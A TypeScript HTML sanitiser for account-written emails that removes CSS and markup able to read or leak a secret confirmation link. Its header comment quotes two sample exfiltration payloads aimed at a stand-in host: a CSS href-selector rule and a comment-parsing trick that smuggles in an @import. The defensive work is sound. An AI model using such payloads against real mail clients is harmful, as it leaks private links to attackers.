// Removes from account-written HTML whatever could read the target of one of its links, or could make a mail
// client parse the HTML differently from htmlparser2, so that a link placed only in `<a href>` stays there.
//
// Why: an HTML email shows a secret link (a double opt-in confirmation) inside HTML the account wrote. Apple
// Mail fetches remote images, fonts and stylesheets on delivery, with no click. CSS can read an href
// (`a[href^="https://…/confirm/A"] { background: url(https://evil.example/A) }`, `content: attr(href)`), and a
// remote or imported stylesheet holds any rule. And where htmlparser2 and a browser (HTML5 parsing) disagree
// on where a comment, raw text or foreign (SVG/MathML) content ends, what htmlparser2 saw as an anchor's href
// can be CSS text to the browser: `<!-- --!><style>@import url('https://evil.example/?-->` ends the comment
// at `--!>` for a browser, and only at `-->` for htmlparser2.
//
// The document is then re-serialised (dom-serializer) with every text and attribute value entity-encoded, so
// the client sees the elements htmlparser2 saw: no comment, no raw text but the stylesheets kept (checked
// below), no foreign content.
// Types only: domhandler is the DOM of htmlparser2, domutils and dom-serializer (node kinds come from ElementType).
import type { AnyNode, Document, Element } from 'domhandler'
import { ElementType } from 'htmlparser2'
import { removeElement } from 'domutils'

/**
 * Elements removed with their content. dom-serializer writes the text of script, noscript, xmp, iframe,
 * noembed, noframes and plaintext unencoded (decoded `&lt;b&gt;` in a noscript becomes markup), svg and math
 * switch a browser to foreign-content parsing, and a link element loads a stylesheet we cannot check.
 */
const REMOVED_ELEMENTS = new Set(['script', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext', 'svg', 'math', 'link'])

/** The only directive kept: `<!doctype …>`. `<?xml …>` and `<!x>` are bogus comments to a browser. */
const DOCTYPE = /^!doctype(\s[^<>]*)?$/i

/** Removes, in place, every part of `document` that could read a link's target or be parsed differently. */
export function removeLinkReaders(document: Document): void {
  for (const node of [...document.children]) visit(node)
}

function visit(node: AnyNode): void {
  if (node.type === ElementType.Comment || node.type === ElementType.CDATA) return removeElement(node)
  if (node.type === ElementType.Directive) return DOCTYPE.test(node.data) ? undefined : removeElement(node)
  if (node.type !== ElementType.Tag && node.type !== ElementType.Style && node.type !== ElementType.Script) return
  if (REMOVED_ELEMENTS.has(node.name) || (node.name === 'style' && !isSafeStylesheet(node))) return removeElement(node)
  // An inline style holds declarations only, no selector, but `attr(href)` reads its element's own href.
  if (node.attribs.style !== undefined && readsLinks(node.attribs.style)) delete node.attribs.style
  for (const child of [...node.children]) visit(child)
}

/**
 * A stylesheet that names no `href` (no `[href…]` selector, no `attr(href)`), imports nothing, and has no `<`
 * but in the legacy `<!--` wrapper (a `<` is the only way its raw text could turn into markup for a browser).
 * Email boilerplate's `a[href^=tel]` is dropped too: one rule cannot be told apart without a CSS parser.
 */
function isSafeStylesheet(style: Element): boolean {
  const css = style.children.map((child) => (child.type === ElementType.Text ? child.data : '')).join('')
  return !/<(?!!--)/.test(css) && !readsLinks(css)
}

/** CSS that names `href` or imports a stylesheet, escapes (`h\72 ef`, `@\69mport`) decoded. */
function readsLinks(css: string): boolean {
  return /href|@import/i.test(unescapeCss(css))
}

/**
 * CSS text with its escapes decoded as the CSS tokenizer does (CSS Syntax 3, §3.3 and §4.3.7): line breaks
 * normalised, `\` and up to 6 hex digits (and one optional whitespace) for a code point, `\` and any other
 * character for that character. Comments are left in: an identifier cannot span one, and stripping them
 * naively (a `/*` inside a string) could hide the rule that follows.
 */
function unescapeCss(css: string): string {
  return css
    .replace(/\r\n?|\f/g, '\n')
    .replace(/\\(?:([0-9a-fA-F]{1,6})[ \t\n]?|([\s\S]))/g, (_, hex: string | undefined, char: string | undefined) => {
      if (hex === undefined) return char ?? ''
      const code = parseInt(hex, 16)
      return code === 0 || code > 0x10ffff || (code >= 0xd800 && code <= 0xdfff) ? '\ufffd' : String.fromCodePoint(code)
    })
}
